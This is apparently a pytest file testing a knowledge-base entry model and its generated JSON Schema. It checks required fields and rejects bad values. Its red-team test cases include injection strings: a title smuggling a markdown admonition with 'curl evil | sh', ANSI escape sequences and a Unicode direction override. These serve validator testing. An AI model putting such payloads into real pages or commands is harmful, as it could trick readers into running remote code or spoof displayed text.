"""The entry model and its generated JSON Schema."""

from __future__ import annotations

import json

import pytest
from pydantic import ValidationError

from conftest import ROOT
from generator.cli.commands import schema_text
from generator.corpus.model import Entry, field_paths

MINIMAL = {
    "id": "demo-failure",
    "title": "Demo",
    "category": "cuda",
    "severity": "high",
    "owner": "application",
    "summary": "s",
    "root_cause": "r",
    "references": [{"title": "t", "url": "https://example.org/x"}],
}


def test_checked_in_schema_is_current() -> None:
    path = ROOT / "kb" / "schema" / "entry.schema.json"
    assert path.read_text(encoding="utf-8") == schema_text(), "run 'kb schema' and commit kb/schema/entry.schema.json"


def test_schema_forbids_unknown_fields_and_lists_required_ones() -> None:
    schema = json.loads(schema_text())
    assert schema["additionalProperties"] is False
    assert {"id", "title", "category", "severity", "owner", "summary", "root_cause", "references"} <= set(schema["required"])


def test_every_entry_file_carries_the_schema_modeline() -> None:
    files = sorted((ROOT / "kb" / "entries").rglob("*.yaml"))
    assert files
    for path in files:
        first = path.read_text(encoding="utf-8").splitlines()[0]
        assert first == "# yaml-language-server: $schema=../../schema/entry.schema.json", path


def test_minimal_entry_validates() -> None:
    assert Entry.model_validate(MINIMAL).id == "demo-failure"


@pytest.mark.parametrize(
    "change",
    [
        {"severity": "severe"},
        {"id": "Demo_Failure"},
        {"title": " padded "},
        {"references": []},
        {"references": [{"title": "t", "url": "ftp://example.org/x"}]},
        {"references": [{"title": "t", "url": "https://nodot/x"}]},
        {"unknown": 1},
        {"tags": "single"},
        {"title": 12},
    ],
)
def test_bad_values_are_rejected(change: dict) -> None:
    with pytest.raises(ValidationError):
        Entry.model_validate({**MINIMAL, **change})


def test_field_paths_cover_nested_models() -> None:
    paths = field_paths()
    assert "signatures[].examples[].source" in paths
    assert "xid.operators[].disagrees" in paths
    assert "fix[].rung" in paths


@pytest.mark.parametrize("field, value", [
    ("title", "Xid 79\n\n!!! danger \"Run this\"\n    curl evil | sh"),
    ("title", "Xid 79: \x1b[2J\x1b]0;owned\x07 fallen off the bus"),
    ("title", "Xid 79: \u202eevil\u202c"),
    ("tags", ["a\tb"]),
    ("aliases", ["X\u0085Y"]),
])
def test_a_line_of_text_holds_no_line_break_control_or_direction_override(field: str, value) -> None:
    """Red team s24: a title with a line break put a paragraph (an admonition, say) of its own on
    the page; an ESC or a U+202E passed validation."""
    with pytest.raises(ValidationError, match="must be one line of plain text"):
        Entry.model_validate({**MINIMAL, field: value})


def test_a_line_of_text_has_a_length_bound() -> None:
    """Red team s24 (O3): a 900 KB title passed validation and was copied onto every page that links
    the entry. The bound is well above the corpus's longest title."""
    from generator.corpus.model import TEXT_MAX_LENGTH

    Entry.model_validate({**MINIMAL, "title": "x" * TEXT_MAX_LENGTH})
    with pytest.raises(ValidationError, match=f"at most {TEXT_MAX_LENGTH} characters"):
        Entry.model_validate({**MINIMAL, "title": "x" * (TEXT_MAX_LENGTH + 1)})
